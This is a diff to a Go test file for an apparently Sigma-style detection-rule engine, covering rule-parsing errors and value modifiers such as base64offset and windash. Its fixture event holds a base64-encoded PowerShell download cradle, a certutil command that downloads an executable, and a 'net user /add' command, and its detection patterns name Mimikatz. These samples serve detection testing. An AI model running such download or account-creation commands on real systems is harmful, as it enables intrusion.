@@ -20,7 +20,10 @@ func TestRuleErrors(t *testing.T) {
 	}{
 		{"bad-regex", det + "  sel: {user.name|re: '(unclosed'}\n  condition: sel\n", `bad.yml:5: rule "t": detection.sel.user.name|re: bad regular expression`, false},
 		{"unknown-modifier", det + "  sel: {user.name|sortof: x}\n  condition: sel\n", `unknown modifier "sortof"`, false},
-		{"windash", det + "  sel: {CommandLine|windash|contains: -x}\n  condition: sel\n", `modifier "windash"`, true},
+		{"time-modifier", det + "  sel: {'@timestamp|hour': 3}\n  condition: sel\n", `bad.yml:5: rule "t": detection.sel.@timestamp|hour: unsupported Sigma feature: modifier hour`, true},
+		{"base64-wildcard", det + "  sel: {CommandLine|base64offset|contains: 'a*b'}\n  condition: sel\n", "wildcards in a value with base64offset", true},
+		{"expand-partial", det + "  sel: {host.name|expand: 'x%dc%'}\n  condition: sel\n", "expand value", true},
+		{"filter-no-rules", "title: t\nid: x\nlogsource: {product: linux}\nfilter:\n  sel: {a: b}\n  condition: not sel\n", "filter.rules", false},
 		{"pipe-aggregation", det + "  sel: {a: b}\n  condition: sel | count() by x > 5\n", "aggregation after |", true},
 		{"near", det + "  sel: {a: b}\n  condition: sel near sel\n", "unexpected", false},
 		{"unknown-selection", det + "  sel: {a: b}\n  condition: sel and other\n", `unknown selection "other"`, false},
@@ -34,7 +37,7 @@ func TestRuleErrors(t *testing.T) {
 		{"bad-operator", "title: t\nid: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1m\n  condition: {ge: 1}\n", `unknown operator "ge"`, false},
 		{"unknown-option", det + "  sel: {a: b}\n  condition: sel\nfirebreak:\n  scopes: tenant\n", "firebreak.scopes: unknown option", false},
 		{"bad-scope", det + "  sel: {a: b}\n  condition: sel\nfirebreak:\n  scope: galaxy\n", "want tenant or cross-tenant", false},
-		{"both", det + "  sel: {a: b}\n  condition: sel\ncorrelation: {type: event_count}\n", "either detection or correlation", false},
+		{"both", det + "  sel: {a: b}\n  condition: sel\ncorrelation: {type: event_count}\n", "one of detection, correlation or filter", false},
 		{"not-yaml", "title: [", "invalid YAML", false},
 	}
 	for _, tt := range tests {
@@ -206,5 +209,68 @@ firebreak: {max_groups: 100, max_values: 5000}
 	incs := e.Incidents()
 	if len(incs) != 1 || incs[0].Distinct < 5000 || !incs[0].DistinctCap {
 		t.Errorf("want one spray incident with ≥ 5000 (capped) distinct addresses, got %+v", incs)
+	}
+}
+
+// TestModifiers checks the encoding, windash, fieldref, neq and expand
+// modifiers on values encoded outside Go (Python's base64 of UTF-16LE text).
+func TestModifiers(t *testing.T) {
+	ev := &event.Event{UserName: "Administrator", Dataset: "windows.security", Fields: map[string]string{
+		"CommandLine":     `powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA`,
+		"Shifted":         `eAB4AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAHgAJwApAA==`,
+		"Payload":         "aGVsbG8gd29ybGQ=",
+		"NetCmd":          "net user bob P@ss /add /domain",
+		"DashCmd":         "certutil –urlcache –f http://x a.exe",
+		"SubjectUserName": "ADMINISTRATOR", "TargetUserName": "administrator", "LogonType": "3",
+	}}
+	x := newEnv(nil, map[string][]string{"admins": {"root", "administrator"}, "nets": {"10.0.0.0/8"}})
+	tests := []struct {
+		sel  string
+		want bool
+	}{
+		{"CommandLine|wide|base64offset|contains: 'New-Object Net.WebClient'", true},
+		{"Shifted|wide|base64offset|contains: 'New-Object Net.WebClient'", true},
+		{"Shifted|wide|base64offset|contains: 'Invoke-Mimikatz'", false},
+		{"CommandLine|base64offset|contains: 'New-Object'", false}, // not UTF-16
+		{"Payload|base64: 'hello world'", true},
+		{"Payload|base64: 'hello'", false},
+		{"NetCmd|windash|contains: ' -add'", true},
+		{"NetCmd|windash|contains: ' -delete'", false},
+		{"DashCmd|windash|contains: ' -urlcache -f '", true},
+		{"DashCmd|contains: ' -urlcache'", false},
+		{"NetCmd|windash|contains: 'P-ss'", false}, // a dash inside a word is not an option
+		{"SubjectUserName|fieldref: TargetUserName", true},
+		{"SubjectUserName|fieldref|cased: TargetUserName", false},
+		{"SubjectUserName|fieldref: user.name", true},
+		{"TargetUserName|fieldref|startswith: LogonType", false},
+		{"LogonType|neq: 3", false},
+		{"LogonType|neq: 2", true},
+		{"LogonType|neq: [2, 10]", true},
+		{"Missing|neq: 2", true},
+		{"user.name|expand: '%admins%'", true},
+		{"user.name|expand: '%nobody%'", false},
+		{"SubjectUserName|expand|startswith: '%admins%'", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.sel, func(t *testing.T) {
+			src := "title: t\nid: x\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    " + tt.sel + "\n  condition: sel\n"
+			rules, err := ParseRules("m.yml", []byte(src))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rules[0].detection.cond.eval(ev, x); got != tt.want {
+				t.Errorf("match = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+// TestBase64Offsets compares with pySigma's base64offset algorithm, run in
+// Python on the same value: ['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v'].
+func TestBase64Offsets(t *testing.T) {
+	got := base64Offsets("http://")
+	want := []string{"aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"}
+	if strings.Join(got, ",") != strings.Join(want, ",") {
+		t.Errorf("base64Offsets(http://) = %q, want %q", got, want)
 	}
 }
